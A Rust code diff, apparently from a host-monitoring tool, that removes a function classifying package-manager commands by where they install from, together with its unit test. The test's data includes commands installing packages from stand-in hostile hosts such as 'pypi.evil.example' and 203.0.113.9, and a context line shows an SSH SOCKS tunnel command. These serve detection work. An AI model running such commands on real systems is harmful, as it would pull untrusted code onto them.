@@ -1073,68 +1073,6 @@ pub fn ssh_tunnel(cmd: &str) -> Option<String> {
     }
 }
 
-/// The packages a package manager's command line requests by name: `Some(names)` (maybe
-/// empty: `apt-get update`, `dpkg --configure -a`), or `None` when it installs from
-/// something that is not the configured repositories: a local file (`dpkg -i x.deb`,
-/// `apt-get install ./x.deb`, `rpm -i x.rpm`), a URL, a VCS, or another index or
-/// repository given on the command line (`pip --index-url`, `apk --repository`,
-/// `--add-repo`). Archives under the package cache (`/var/cache/`), which the package
-/// manager fetched itself, count as the repository's. Versions and architectures are cut
-/// off (`procps=2:4.0.2-3`, `curl:amd64`, `requests==2.32`).
-pub fn requested_packages(cmd: &str) -> Option<Vec<String>> {
-    const OTHER_SOURCE: &[&str] = &[
-        "-i",
-        "--index-url",
-        "--extra-index-url",
-        "--find-links",
-        "-X",
-        "--repository",
-        "--repositories-file",
-        "--add-repo",
-        "--repofrompath",
-        "--registry",
-        "--allow-untrusted",
-    ];
-    let words: Vec<&str> = cmd.split_whitespace().skip(1).collect();
-    let mut out = Vec::new();
-    for w in &words {
-        let w = w.trim_matches(|c| c == '"' || c == '\'');
-        if OTHER_SOURCE
-            .iter()
-            .any(|o| w == *o || w.starts_with(&format!("{o}=")))
-        {
-            return None;
-        }
-        if w.starts_with("/var/cache/") {
-            continue;
-        }
-        if w.contains("://")
-            || w.contains('/')
-            || [
-                ".deb", ".rpm", ".apk", ".whl", ".tar.gz", ".tgz", ".zip", ".gem",
-            ]
-            .iter()
-            .any(|e| w.ends_with(e))
-            || w.starts_with("git+")
-        {
-            // `dpkg --status-fd 23` and option values are not paths; a path is a file.
-            return None;
-        }
-        if w.starts_with('-') || w.is_empty() || w.chars().all(|c| c.is_ascii_digit()) {
-            continue;
-        }
-        let name = w
-            .split(['=', '<', '>', ':', '~', '!', '['])
-            .next()
-            .unwrap_or("")
-            .to_ascii_lowercase();
-        if !name.is_empty() {
-            out.push(name);
-        }
-    }
-    Some(out)
-}
-
 /// What one event did, when it is of a kind the session context weighs.
 pub fn activity(ev: &FlatEvent, is_maintenance: &dyn Fn(&str) -> bool) -> Option<Activity> {
     let ty = text(ev, "evt.type")?;
@@ -1622,34 +1560,6 @@ mod tests {
             exec("ssh", "ssh -D 1080 -N u@198.51.100.77"),
             Some(Activity::Outbound(..))
         ));
-    }
-
-    #[test]
-    fn packages_requested_by_name_and_other_sources() {
-        let p = |c: &str| requested_packages(c);
-        assert_eq!(
-            p("apt-get install -y procps=2:4.0.2-3 curl:amd64").unwrap(),
-            ["install", "procps", "curl"]
-        );
-        assert_eq!(
-            p("/usr/bin/dpkg --status-fd 23 --unpack /var/cache/apt/archives/procps_4.0.2-3_amd64.deb").unwrap(),
-            Vec::<String>::new()
-        );
-        assert_eq!(
-            p("pip install requests==2.32.3").unwrap(),
-            ["install", "requests"]
-        );
-        for c in [
-            "dpkg -i /tmp/x.deb",
-            "apt-get install ./agent.deb",
-            "rpm -i https://203.0.113.9/x.rpm",
-            "pip install --index-url https://pypi.evil.example/simple requests",
-            "pip install git+https://github.com/x/y",
-            "apk add --repository http://203.0.113.9/alpine x",
-            "apk add -X http://203.0.113.9/alpine x",
-        ] {
-            assert_eq!(p(c), None, "{c}");
-        }
     }
 
     #[test]
